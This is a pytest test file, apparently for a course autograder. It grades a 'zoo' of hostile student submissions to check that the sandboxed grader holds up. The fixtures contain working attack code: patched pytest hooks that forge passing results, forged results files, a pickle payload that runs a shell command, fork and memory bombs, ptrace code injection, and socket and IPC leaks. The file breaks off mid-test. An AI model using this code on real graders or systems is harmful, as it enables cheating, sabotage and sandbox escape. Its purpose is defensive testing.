"""
A hostile zoo: submissions that try to grade themselves, crash the grader, outlive it, or read what they
must not. Each one is the untouched student release with hostile code added, graded end to end as root
(student code then runs as `nobody`) through `python -m instructor grade` and, where the attack depends
on the layout around the grader, through the bundle's setup.sh + run_autograder in an /autograder-like
folder. Each must score what its honest part deserves (what the untouched release scores, 0, when it adds
nothing honest), leave a complete results.json, no process, no IPC object or file on the host, and reach no
listener of the host; honest submissions graded among the zoo, and once after it, get full marks. The replay
case is built at test time (tests/zoo_replay.py): it scores high under the release's own `pytest unittests.py`.

As root, `nobody` must be able to run this Python (CI makes its virtual environment so); without root
there is no unprivileged jail to test and these tests skip, unless MICROGPT_REQUIRE_ROOT=1 (CI) makes
that a failure.
"""

import concurrent.futures
import json
import os
import pwd
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

import pytest

from instructor import release

import zoo_replay
from test_instructor import assert_gradescope_format

ROOT = release.ROOT
TIMEOUT = 10.0  # per test: the one hang below costs this much
# graded both ways: the cases whose attack depends on the layout around the grader (paths, parents, results
# folder) and those that reach past their own grading (network, IPC, processes, ptrace, replayed answers, what
# flows back); the others (the same code in the same jail either way) only through `instructor grade`
BOTH_WAYS = ("forged_files", "detached_rewriter", "kills_its_parents", "exits_at_import", "fork_bomb",
             "reads_the_solution", "reads_the_hidden_tests", "replay", "rng_state_sent_back", "zombie_leader",
             "loopback_sockets", "sysv_and_posix_ipc", "ptrace", "hidden_traceback", "huge_ids")
PWNED = "/tmp/micro-gpt-zoo-pwned"  # what an unpickled answer would create
SLEEP_MARK = "9773"  # `sleep 9773`: the processes the fork bomb starts
HOSTILE_MARK = "# --- hostile ---"  # in every hostile module: the attackers below spare each other, not the honest
HOST_MARKS = ("/tmp/micro-gpt-zoo-", "/dev/shm/micro-gpt-zoo-")  # files the hostile code tries to leave on the host
IPC_KEY = 0x5A0051  # the System V key the IPC case uses, so that a later test or grading can look it up
IPC_FOUND = "ZOO-IPC-FOUND"  # what the IPC case prints when it finds what an earlier one left
HIDDEN_PRINT = "ZOO-HIDDEN-ARGS"  # what the hidden-traceback case prints in the hidden tests
JAIL_UID = pwd.getpwnam("nobody").pw_uid
MAX_GRADER_RSS = 1 << 30  # bytes: the grading of huge_ids (grader, trusted process and jail) stays below
SOLUTION_BASE = {"ptrace": ("gpt.py",), "hidden_traceback": ("gpt.py", "dataset.py")}  # honest parts

pytestmark = pytest.mark.slow  # minutes: runs with --full


def jail_usable():
    """'' when this machine can run the unprivileged jail, else why not."""
    if os.geteuid() != 0:
        return "not root: the grader cannot switch to an unprivileged user"
    probe = subprocess.run([sys.executable, "-c", "import torch"], user="nobody", cwd="/", capture_output=True,
                           text=True, timeout=120)
    if probe.returncode != 0:
        return f"user nobody cannot run {sys.executable}: {probe.stderr.strip()[-300:]}"
    return ""


@pytest.fixture(scope="module", autouse=True)
def needs_jail():
    why = jail_usable()
    if why and os.environ.get("MICROGPT_REQUIRE_ROOT") == "1":
        pytest.fail(f"MICROGPT_REQUIRE_ROOT=1 but {why}")
    if why:
        pytest.skip(why)


# ----------------------------------------------------------------------------- the hostile code

FIND_PATHS = '''
import os
def paths_in_sight():
    """Every absolute path named on a command line, every cwd and root of /proc, and their parents."""
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode(errors="replace") for a in f.read().split(b"\\0")]
        except OSError:
            args = []
        for a in args:
            for p in (a, a.split("=", 1)[-1]):
                if p.startswith("/"):
                    found.add(p)
        for link in ("cwd", "root"):
            try:
                found.add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
    found |= {os.getcwd(), os.path.abspath(".."), os.path.abspath("../.."), %(root)r, "/autograder",
              "/autograder/source", "/autograder/source/pristine", "/autograder/results"}
    for p in list(found):
        while p not in ("/", ""):
            found.add(p)
            p = os.path.dirname(p)
    return found
''' % {"root": ROOT}

HOSTILE = {
    "patched_helpers": {"dataset.py": '''
import sys
import torch
for module in list(sys.modules.values()):
    for name in ("assert_close", "fail", "approx"):
        try:
            setattr(module, name, lambda *a, **k: None)
        except Exception:
            pass
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
CharTokenizer.encode = lambda self, s: [0] * len(s)
CharTokenizer.decode = lambda self, ids: ""
TextDataset.__getitem__ = lambda self, i: (torch.zeros(8, dtype=torch.long),) * 2
'''},
    "pytest_hooks_through_gc": {"dataset.py": '''
import gc
import pytest
class Cheat:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        report = (yield).get_result()
        report.outcome, report.longrepr = "passed", None
for obj in gc.get_objects():
    if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
        obj.pluginmanager.register(Cheat())
'''},
    "forged_files": {"dataset.py": FIND_PATHS + '''
import json
event = json.dumps({"done": "unittests.py::test_mlp", "passed": True, "output": ""})
report = json.dumps({"score": 60.0, "tests": []})
for path in paths_in_sight():
    try:
        if os.path.isdir(path):
            if os.stat(path).st_mode & 0o002:
                continue  # /tmp and the like: not ours to litter
            for name, text in (("results.json", report), ("events.jsonl", event), ("conftest.py", "X = 1\\n"),
                               ("unittests.py", "def test_ok():\\n    pass\\n")):
                with open(os.path.join(path, name), "w") as f:
                    f.write(text)
        elif path.endswith((".json", ".jsonl")):
            with open(path, "a") as f:
                f.write("\\n" + event + "\\nnot json\\n")
    except OSError:
        pass
os._exit(0)
'''},
    "detached_rewriter": {"dataset.py": '''
import json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 120
        while time.time() < end:
            for pid in os.listdir("/proc"):
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        args = f.read().decode(errors="replace").split("\\0")
                except OSError:
                    continue
                for i, a in enumerate(args[:-1]):
                    if a == "--out":
                        try:
                            with open(args[i + 1], "w") as f:
                                json.dump({"score": 60.0, "tests": []}, f)
                        except OSError:
                            pass
            time.sleep(0.1)
    os._exit(0)
'''},
    "kills_its_parents": {"dataset.py": '''
import os, signal
for pid in {os.getppid(), os.getpgrp(), os.getsid(0)}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if b"instructor" in f.read():
                os.kill(int(pid), signal.SIGKILL)
    except (OSError, ValueError):
        pass
'''},
    # (os._exit at import: forged_files)
    "exits_at_import": {"dataset.py": "raise SystemExit(0)\n", "gpt.py": "raise KeyboardInterrupt\n"},
    "exits_in_tests": {"dataset.py": '''
def _interrupt(self, *args):
    raise KeyboardInterrupt
CharTokenizer.encode = _interrupt
TextDataset.__getitem__ = lambda self, i: sys.exit(0)
''', "gpt.py": '''
RMSNorm.forward = lambda self, x: os._exit(0)
def _exit(self, *args):
    raise SystemExit(1)
MLP.forward = _exit
'''},
    "malformed_answers": {"dataset.py": '''
import struct
import torch
import wire

class Evil(torch.Tensor):
    pass

class Reducer:
    def __reduce__(self):
        return (os.system, ("touch %(pwned)s",))

CharTokenizer.encode = lambda self, s: torch.zeros(3).as_subclass(Evil)
CharTokenizer.decode = lambda self, ids: Reducer()
TextDataset.__getitem__ = lambda self, i: (torch.full((8,), float("nan")), torch.zeros(10 ** 8))
TextDataset.__len__ = lambda self: 22
real_send, calls = wire.send, [0]

def frame(text, blob=b""):
    payload = struct.pack("<I", len(text)) + text + blob
    return struct.pack("<Q", len(payload)) + payload

BAD = [
    b"\\xff" * 8,  # a length of 2**64 - 1
    frame(b"[[[[["),
    frame(b'{"ok": ' * 50000),
    frame(b'{"dict": [["ok", {"tensor": "0"}], ["rng", {"tensor": "0"}], ["generators", {"list": []}]]}', b"junk"),
    frame(b'{"dict": [["ok", 1], ["rng", {"list": []}], ["generators", {"list": []}]]}'),
    frame(b'{"dict": [["error", {"dict": [["type", "Skipped"], ["base", "BaseException"], ["message", "skip"]]}]]}'),
]

def evil_send(sock, data):
    calls[0] += 1
    if calls[0] %% 7 == 6:
        return real_send(sock, data)
    sock.sendall(BAD[calls[0] %% 7])

wire.send = evil_send
''' % {"pwned": PWNED}},
    "memory_bomb": {"dataset.py": '''
import torch
def _bomb(self, s):
    hoard = []
    while True:
        hoard.append(torch.ones(1 << 28))  # 1 GB, touched
CharTokenizer.encode = _bomb
'''},
    "fork_bomb": {"dataset.py": '''
import subprocess
def _forks(self, s):
    for _ in range(40):
        subprocess.Popen(["sleep", "%(mark)s"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            os.execvp("sleep", ["sleep", "%(mark)s"])
    raise RuntimeError("forked")
CharTokenizer.encode = _forks
''' % {"mark": SLEEP_MARK}},
    "print_flood": {"gpt.py": '''
import sys
sys.stdout.write("flood " * 3_000_000)
sys.stderr.write("flood " * 3_000_000)
'''},
    "blocked_signals_sleep_in_c": {"dataset.py": '''
import ctypes, signal
def _hang(self, s):
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    ctypes.CDLL(None).sleep(3600)
CharTokenizer.encode = _hang
'''},
    "reads_the_solution": {"dataset.py": FIND_PATHS + '''
import sys
solution = {}
for folder in paths_in_sight():
    for name in ("gpt.py", "dataset.py"):
        try:
            with open(os.path.join(folder, name)) as f:
                text = f.read()
        except OSError:
            continue
        if "class CharTokenizer" in text or "class GPT(" in text:
            if "raise NotImplementedError" not in text:
                solution[name] = text
print("found the solution in sight:", sorted(solution))
if "dataset.py" in solution:
    exec(compile(solution["dataset.py"], "dataset.py", "exec"), globals())
if "gpt.py" in solution:
    import types
    module = types.ModuleType("gpt")
    exec(compile(solution["gpt.py"], "gpt.py", "exec"), module.__dict__)
    sys.modules["gpt"] = module
'''},
    "reads_the_hidden_tests": {"dataset.py": FIND_PATHS + '''
for folder in paths_in_sight():
    for name in ("hidden_tests.py", "instructor/hidden_tests.py", "pristine/hidden_tests.py"):
        try:
            with open(os.path.join(folder, name)) as f:
                print(f.read())
        except OSError:
            pass
'''},
    # (replay: built at test time from a recording of the solution, see zoo_replay.py)
    "rng_state_sent_back": {"gpt.py": '''
import functools
import torch

def _zero_rng():
    """A valid mt19937 state whose words are all zero: whoever adopts it draws zeros (randn, rand, randint)."""
    try:
        state = torch.get_rng_state().clone()
        state[24:5016] = 0
        state[8:12] = torch.tensor([1, 0, 0, 0], dtype=torch.uint8)
        state[16:24] = 0
        torch.set_rng_state(state)
    except Exception:
        pass

def _then_zero_rng(function):
    @functools.wraps(function)
    def wrapped(*args, **kwargs):
        try:
            return function(*args, **kwargs)
        finally:
            _zero_rng()
    return wrapped

# a wrong attention: every position sees the mean of all positions, future included (causal only on zeros)
CausalSelfAttention.forward = lambda self, x, cache=None: x.mean(1, keepdim=True).expand_as(x).clone()
CausalSelfAttention.attention_probs = lambda self, q, k: q @ k.transpose(-2, -1)
for _cls in (LayerNorm, RMSNorm, RotaryEmbedding, CausalSelfAttention, MLP, Block, GPT, GPTConfig):
    for _name, _value in list(vars(_cls).items()):
        if callable(_value) and (not _name.startswith("_") or _name in ("__init__", "__call__")):
            setattr(_cls, _name, _then_zero_rng(_value))
sample_next = _then_zero_rng(sample_next)
_zero_rng()
'''},
    "zombie_leader": {"dataset.py": '''
import ctypes, os, platform, signal, threading, time

def _others():
    """Jail processes of honest submissions in sight: pid -> their scratch folder."""
    found = {}
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()):
            continue
        try:
            folder = os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cwd/gpt.py") as f:
                if "%(hostile)s" in f.read():
                    continue
            found[int(pid)] = f"/proc/{pid}/cwd"
        except OSError:
            pass
    return found

def _tamper(until):
    while time.time() < until:
        for path in ("/tmp/micro-gpt-zoo-zombie", "/dev/shm/micro-gpt-zoo-zombie"):
            try:
                with open(path, "w") as f:
                    f.write("the zombie was here")
            except OSError:
                pass
        for pid, folder in _others().items():
            try:
                with open(os.path.join(folder, "gpt.py"), "w") as f:
                    f.write("raise SystemExit('rewritten by a zombie of another submission')\\n")
            except OSError:
                pass
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.2)

def _survivor():
    until = time.time() + 600  # the clean-up at the end of this module kills it, if the grader did not
    if os.fork() == 0:  # a descendant of the zombie: its parent is not in the process tree any more
        _tamper(until)
        os._exit(0)
    _tamper(until)

def _zombie(self, s):
    if os.fork() == 0:
        threading.Thread(target=_survivor).start()
        libc = ctypes.CDLL(None, use_errno=True)
        number = {"x86_64": 60, "aarch64": 93}.get(platform.machine(), 60)
        libc.syscall(number, 0)  # SYS_exit: the main thread leaves, the process lives on in the other thread
        os._exit(0)  # not reached
    time.sleep(0.5)
    raise RuntimeError("a zombie leader started")

CharTokenizer.encode = _zombie
TextDataset.__getitem__ = _zombie
''' % {"hostile": HOSTILE_MARK}},
    "loopback_sockets": {"dataset.py": '''
import socket

def _leak(what):
    for family, address in ((socket.AF_INET, ("127.0.0.1", {TCP_PORT})), (socket.AF_UNIX, "\\0{UNIX_NAME}")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as c:
                c.settimeout(2)
                c.connect(address)
                c.sendall(repr(what).encode())
        except OSError:
            pass

def _encode(self, s):
    _leak(("encode", s, self.stoi))
    raise RuntimeError("sent")

def _item(self, i):
    _leak(("getitem", i, self.data.tolist()))
    raise RuntimeError("sent")

_leak("import")
CharTokenizer.encode = _encode
TextDataset.__getitem__ = _item
'''},
    "sysv_and_posix_ipc": {"dataset.py": '''
import ctypes, struct

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.msgrcv.restype = ctypes.c_ssize_t
_libc.msgrcv.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long, ctypes.c_int)
_libc.msgsnd.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
KEY, CREATE, NOWAIT, NOERROR = %(key)d, 0o1000 | 0o666, 0o4000, 0o10000

def _look():
    """What earlier tests or gradings left: printed, so that it would reach this test's output."""
    found = []
    shmid = _libc.shmget(KEY, 0, 0)
    if shmid >= 0:
        address = _libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            found.append(ctypes.string_at(address, 200).split(b"\\0")[0])
    qid = _libc.msgget(KEY, 0)
    if qid >= 0:
        buffer = ctypes.create_string_buffer(8 + 4096)
        n = _libc.msgrcv(qid, buffer, 4096, 0, NOWAIT | NOERROR)
        if n > 0:
            found.append(buffer.raw[8:8 + n])
    for name in ("/dev/shm/micro-gpt-zoo-ipc",):
        try:
            with open(name, "rb") as f:
                found.append(f.read())
        except OSError:
            pass
    if found:
        print("%(found)s", found)

def _leave(data):
    data = data[:4000]
    for key, size in ((KEY, 256 << 20), (0, 256 << 20)):  # a known key, and IPC_PRIVATE
        shmid = _libc.shmget(key, size, CREATE)
        if shmid >= 0:
            address = _libc.shmat(shmid, None, 0)
            if address not in (None, ctypes.c_void_p(-1).value):
                ctypes.memmove(address, data + b"\\0", len(data) + 1)
    qid = _libc.msgget(KEY, CREATE)
    if qid >= 0:
        message = struct.pack("<q", 1) + data
        _libc.msgsnd(qid, message, len(data), NOWAIT)
    _libc.semget(KEY, 4, CREATE)
    try:
        with open("/dev/shm/micro-gpt-zoo-ipc", "wb") as f:
            f.write(data)
    except OSError:
        pass

def _encode(self, s):
    _look()
    _leave(repr(("encode", s, self.stoi)).encode())
    raise RuntimeError("left IPC objects")

def _item(self, i):
    _look()
    _leave(repr(("getitem", i, self.data.tolist())).encode())
    raise RuntimeError("left IPC objects")

_look()
CharTokenizer.encode = _encode
TextDataset.__getitem__ = _item
''' % {"key": IPC_KEY, "found": IPC_FOUND}},
    "ptrace": {"dataset.py": '''
import ctypes, os, platform, time

PTRACE_PEEKUSER, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 3, 5, 16, 17
RIP = 16 * 8  # offset of rip in x86_64's struct user_regs_struct

def _targets():
    """Ancestors in the jail, then every process of an honest submission in sight."""
    mine, honest = [], []
    pid = os.getppid()
    while pid > 1:
        mine.append(pid)
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
            pid = int(stat[stat.rfind(b")") + 2:].split()[1])
        except (OSError, ValueError):
            break
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in mine and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/cwd/gpt.py") as f:
                    if "%(hostile)s" not in f.read():
                        honest.append(int(name))
            except OSError:
                pass
    return honest + mine[::-1]  # the parent last

def _inject(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return
    for _ in range(100):  # wait (at most 1 s) until it stops
        try:
            if os.waitpid(pid, os.WNOHANG | 0x40000000)[0] == pid:
                break
        except ChildProcessError:
            pass
        time.sleep(0.01)
    if platform.machine() == "x86_64":
        rip = libc.ptrace(PTRACE_PEEKUSER, pid, RIP, None)
        libc.ptrace(PTRACE_POKEDATA, pid, rip, 0xCCCCCCCCCCCCCCCC - (1 << 64))  # int3 where it resumes
    libc.ptrace(PTRACE_DETACH, pid, None, None)

def _encode(self, s):
    if os.fork() == 0:
        for pid in _targets():
            _inject(pid)
        os._exit(0)
    time.sleep(3)
    raise RuntimeError("traced")

CharTokenizer.encode = _encode
''' % {"hostile": HOSTILE_MARK}},
    "hidden_traceback": {"gpt.py": '''
_public_forward, _public_sample = GPT.forward, sample_next

def _forward(self, idx, targets=None, cache=None):
    if self.config.n_head in (2, 3):  # the public tests use 4 heads (and GPT-2's 12): a hidden test
        print("%(mark)s", self.config, idx.tolist(), [p.flatten()[:4].tolist() for p in self.parameters()])
        raise RuntimeError("the hidden test failed")
    return _public_forward(self, idx, targets, cache)

def sample_next(logits, temperature=1.0, *args, **kwargs):
    if kwargs.get("top_k") == 1 or (kwargs.get("top_p") or 1) < 1e-3:  # only the hidden test samples this narrowly
        print("%(mark)s", logits.tolist(), args, kwargs)
        raise RuntimeError("the hidden test failed")
    return _public_sample(logits, temperature, *args, **kwargs)

GPT.forward = _forward
''' % {"mark": HIDDEN_PRINT}},
    "huge_ids": {"gpt.py": '''
import torch
_calls = [0]

def sample_next(logits, temperature=1.0, top_k=None, top_p=None, generator=None):
    _calls[0] += 1
    n = logits.shape[0]
    return (torch.full((n, 1), 2 ** 28), torch.full((n, 1), -(2 ** 40)), torch.full((n, 1), 1e30),
            torch.full((n, 1), 2 ** 62))[(_calls[0] - 1) % 4]
'''},
}


# ----------------------------------------------------------------------------- grading them

HONEST = "honest"  # the repository's gpt.py and dataset.py: graded among the zoo (live attackers could reach it)
FIRST = ("zombie_leader", "ptrace", "loopback_sockets", "sysv_and_posix_ipc")  # the attackers that reach out
CASES = [*FIRST, "replay", *(c for c in HOSTILE if c not in FIRST)]
GRADINGS = [(case, way) for case in CASES for way in ("cli", "bundle") if way == "cli" or case in BOTH_WAYS]
GRADINGS[2:2] = [(HONEST, "cli")]  # with the first attackers, and again in the middle of the pool
GRADINGS[len(GRADINGS) // 2:len(GRADINGS) // 2] = [(HONEST, "bundle")]
HOSTILE_GRADINGS = [g for g in GRADINGS if g[0] != HONEST]
DATA_TESTS = ("test_tokenizer", "test_dataset")  # the tests of dataset.py; the others test gpt.py


def released_modules(built):
    return {name: (built / "student" / name).read_text() for name in ("gpt.py", "dataset.py")}


def solution_modules():
    return {name: open(os.path.join(ROOT, name), encoding="utf-8").read() for name in ("gpt.py", "dataset.py")}


def submission_files(built, case, context):
    """{name: text}: the release (or, for its honest part, the solution) with the case's hostile code added."""
    if case == HONEST:
        return solution_modules()
    if case == "replay":
        return context["replay"]
    released, solution = released_modules(built), solution_modules()
    files = {}
    for name in ("gpt.py", "dataset.py"):
        code = HOSTILE[case].get(name, "")
        for token, value in context.get("substitute", {}).items():
            code = code.replace(token, str(value))
        base = solution[name] if name in SOLUTION_BASE.get(case, ()) else released[name]
        files[name] = base + f"\n{HOSTILE_MARK}\n" + code
    return files


def write_submission(folder, built, case, context=None):
    folder.mkdir(parents=True)
    for name, text in submission_files(built, case, context or {}).items():
        (folder / name).write_text(text)


def run_measured(command, **kwargs):
    """subprocess.run, and the largest resident memory of the command and of every descendant it reaped
    (the grader, its trusted process, the jail: wait4's rusage). -> (CompletedProcess, bytes)"""
    with open(os.devnull, "rb") as stdin, open_temporary() as out, open_temporary() as err:
        proc = subprocess.Popen(command, stdin=stdin, stdout=out, stderr=err, **kwargs)
        try:
            _, status, usage = os.wait4(proc.pid, 0)
        except BaseException:
            proc.kill()
            raise
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        return (subprocess.CompletedProcess(command, proc.returncode, out.read().decode(errors="replace"),
                                            err.read().decode(errors="replace")), usage.ru_maxrss * 1024)


def open_temporary():
    import tempfile
    return tempfile.TemporaryFile()


def grade_cli(built, tmp, case, context=None):
    write_submission(tmp / "submission", built, case, context)
    out = tmp / "results.json"
    proc, rss = run_measured([sys.executable, "-m", "instructor", "grade", str(tmp / "submission"), "--out", str(out),
                              "--timeout", str(TIMEOUT)], cwd=ROOT)
    return proc, out, rss


def grade_bundle(built, tmp, case, env, context=None):
    shutil.copytree(built / "autograder", tmp / "source")
    write_submission(tmp / "submission", built, case, context)
    proc, rss = run_measured(["bash", str(tmp / "source" / "run_autograder")], env={**env, "AUTOGRADER_DIR": str(tmp)})
    return proc, tmp / "results" / "results.json", rss


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    dest = tmp_path_factory.mktemp("dist")
    release.build(str(dest))
    return dest


@pytest.fixture(scope="module")
def bundle_env(built, tmp_path_factory):
    """The environment run_autograder gets, after the bundle's setup.sh ran (as nobody, so that it adds no
    account to this machine; its pip installs find everything in place)."""
    env = {**os.environ, "PYTHON": sys.executable, "JAIL_USER": "nobody",
           "PATH": os.path.dirname(sys.executable) + os.pathsep + os.environ["PATH"],
           "GRADER_ARGS": f"--timeout {TIMEOUT} --total-timeout 540"}
    setup = tmp_path_factory.mktemp("setup")
    shutil.copytree(built / "autograder", setup / "source")
    proc = subprocess.run(["bash", str(setup / "source" / "setup.sh")], env=env, capture_output=True, text=True,
                          timeout=900)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    return env


def jail_processes():
    """Processes of any jail (any process of the jail user, whatever its command line: a zombie leader's reads
    empty) or of the fork bomb, as (pid, command line)."""
    out = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode(errors="replace")
            uid = os.stat(f"/proc/{pid}").st_uid
        except OSError:
            continue
        if "jailed.py" in cmd or f"sleep {SLEEP_MARK}" in cmd or uid == JAIL_UID:
            out.append((pid, cmd))
    return out


def ipc_objects():
    """The host's System V shared memory segments, message queues and semaphore sets: {(kind, key, id, uid)}."""
    found = set()
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{kind}") as f:
            header, *lines = f.read().splitlines()
        columns = header.split()
        for line in lines:
            fields = dict(zip(columns, line.split()))
            found.add((kind, fields["key"], fields[columns[1]], int(fields["uid"])))
    return found


def host_files():
    """Files the hostile code tries to leave in the host's /tmp and /dev/shm."""
    return sorted(os.path.join(folder, name) for folder in ("/tmp", "/dev/shm") for name in os.listdir(folder)
                  if os.path.join(folder, name).startswith(HOST_MARKS))


class Listeners:
    """A TCP listener on 127.0.0.1 and one on an abstract unix socket, in this (the host's) network namespace:
    every connection they accept is recorded, with what it sent."""

    def __init__(self):
        self.received, self.stopped = [], False
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.unix_name = f"micro-gpt-zoo-{secrets.token_hex(8)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.unix_name)
        self.threads = []
        for sock in (self.tcp, self.unix):
            sock.listen(64)
            sock.settimeout(0.2)
            self.threads.append(threading.Thread(target=self.serve, args=(sock,), daemon=True))
            self.threads[-1].start()

    def serve(self, sock):
        while not self.stopped:
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    data = conn.recv(1 << 16)
                except OSError:
                    data = b""
            self.received.append((sock.family.name, data[:200]))

    def close(self):
        self.stopped = True
        for t in self.threads:
            t.join(2)
        self.tcp.close()
        self.unix.close()


def clean_up(ipc_before):
    """What a zoo member may have left on the host: its processes, IPC objects and files."""
    for pid, _ in jail_processes():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    for kind, _, number, _ in ipc_objects() - ipc_before:
        subprocess.run(["ipcrm", {"shm": "-m", "msg": "-q", "sem": "-s"}[kind], number], capture_output=True)
    for path in host_files():
        if path != PWNED:
            os.unlink(path)


@pytest.fixture(scope="module")
def replay(built, tmp_path_factory):
    """The replay case's modules, built from a recording of the solution under the release's own tests, and the
    points they earn there: (files, (points, out of), entries kept, entries recorded)."""
    work = tmp_path_factory.mktemp("replay")
    student = str(built / "student")
    files, kept, recorded = zoo_replay.build(student, ROOT, str(work))
    return files, zoo_replay.local_points(student, files, str(work)), kept, recorded


@pytest.fixture(scope="module")
def graded(built, bundle_env, replay, tmp_path_factory):
    """Every grading of GRADINGS, three at a time (two cores: a grading waits on processes part of the time),
    honest ones among them; then an honest one after them all; then what the zoo left on the host:
    {"results": {(case, way): (process, results.json path, its text as first read, max RSS)},
     "later": {(case, way): results.json a few seconds later (a detached child would have rewritten it)},
     "after": the honest grading's result, "left": processes, "received": what the listeners got,
     "ipc": new IPC objects, "files": files left in /tmp and /dev/shm}"""
    if os.path.exists(PWNED):
        os.unlink(PWNED)
    root = tmp_path_factory.mktemp("hostile")
    listeners, ipc_before = Listeners(), ipc_objects()
    context = {"replay": replay[0],
               "substitute": {"{TCP_PORT}": listeners.tcp.getsockname()[1], "{UNIX_NAME}": listeners.unix_name}}

    def run(case, way):
        tmp = root / f"{case}-{way}"
        tmp.mkdir()
        start = time.monotonic()
        proc, out, rss = (grade_cli(built, tmp, case, context) if way == "cli" else
                          grade_bundle(built, tmp, case, bundle_env, context))
        (tmp / "seconds").write_text(f"{time.monotonic() - start:.1f}")  # to look at when the zoo grows slow
        return proc, out, out.read_text() if out.exists() else None, rss

    try:
        with concurrent.futures.ThreadPoolExecutor(3) as pool:
            futures = {key: pool.submit(run, *key) for key in GRADINGS}
            results = {key: f.result() for key, f in futures.items()}
        time.sleep(3)
        later = {key: out.read_text() if out.exists() else None for key, (_, out, _, _) in results.items()}
        after = run(HONEST, "after")
        time.sleep(1)
        yield {"results": results, "later": later, "after": after, "left": jail_processes(),
               "received": list(listeners.received), "ipc": sorted(ipc_objects() - ipc_before),
               "files": host_files()}
    finally:
        listeners.close()
        clean_up(ipc_before)


@pytest.fixture(scope="module")
def untouched(built, tmp_path_factory):
    """results.json of the untouched release, graded the same way."""
    tmp = tmp_path_factory.mktemp("untouched")
    (tmp / "submission").mkdir()
    for name, text in released_modules(built).items():
        (tmp / "submission" / name).write_text(text)
    proc = subprocess.run([sys.executable, "-m", "instructor", "grade", str(tmp / "submission"), "--out",
                           str(tmp / "results.json")], cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    return json.loads((tmp / "results.json").read_text())


def result_of(graded, case, way):
    proc, _, text, _ = graded["after"] if way == "after" else graded["results"][(case, way)]
    assert text is not None, f"no results.json; stderr: {proc.stderr[-2000:]}"
    return json.loads(text)


def honest_part(case, untouched):
    """The points a zoo member's honest part deserves: 0, or every test of its solution modules."""
    tests = untouched["tests"]
    if case == "ptrace":  # the solution's gpt.py, the release's dataset.py
        return sum(t["max_score"] for t in tests if not t["name"].startswith(DATA_TESTS))
    if case == "hidden_traceback":  # the solution, failing on purpose in the hidden tests only
        return sum(t["max_score"] for t in tests if not t["name"].startswith("hidden: "))
    return untouched["score"]


@pytest.mark.parametrize("case, way", HOSTILE_GRADINGS)
def test_hostile_submission_scores_what_its_honest_part_deserves(graded, untouched, case, way):
    result = result_of(graded, case, way)
    assert_gradescope_format(result)
    assert [t["name"] for t in result["tests"]] == [t["name"] for t in untouched["tests"]]
    assert untouched["score"] == 0
    assert result["score"] == honest_part(case, untouched), \
        [(t["name"], t["score"], t["output"][:300]) for t in result["tests"] if bool(t["score"]) != (case in SOLUTION_BASE)]
    assert graded["later"][(case, way)] == graded["results"][(case, way)][2], "results.json changed after the grader ended"


@pytest.mark.parametrize("way", ["cli", "bundle", "after"])
def test_honest_submission_graded_with_the_zoo_gets_full_marks(graded, way):
    result = result_of(graded, HONEST, way)
    assert_gradescope_format(result)
    assert result["score"] == sum(t["max_score"] for t in result["tests"]) > 0, \
        [(t["name"], t["output"][:300]) for t in result["tests"] if t["status"] == "failed"]


def test_replay_of_recorded_answers_scores_high_locally(replay):
    files, (points, total), kept, recorded = replay
    assert all(len(text.encode()) <= release_limit() for text in files.values())
    assert kept == recorded > 0
    assert points >= 0.9 * total, f"the replay earns {points:g} of {total:g} points locally"


def release_limit():
    from instructor import grade
    return grade.MAX_FILE


def output(result, name):
    return next(t["output"] for t in result["tests"] if t["name"] == name)


def every_output(result):
    return "\n".join(t["output"] for t in result["tests"]) + result["output"]


def test_no_process_is_left_behind(graded):
    assert graded["left"] == []


def test_nothing_reaches_a_listener_on_the_host(graded):
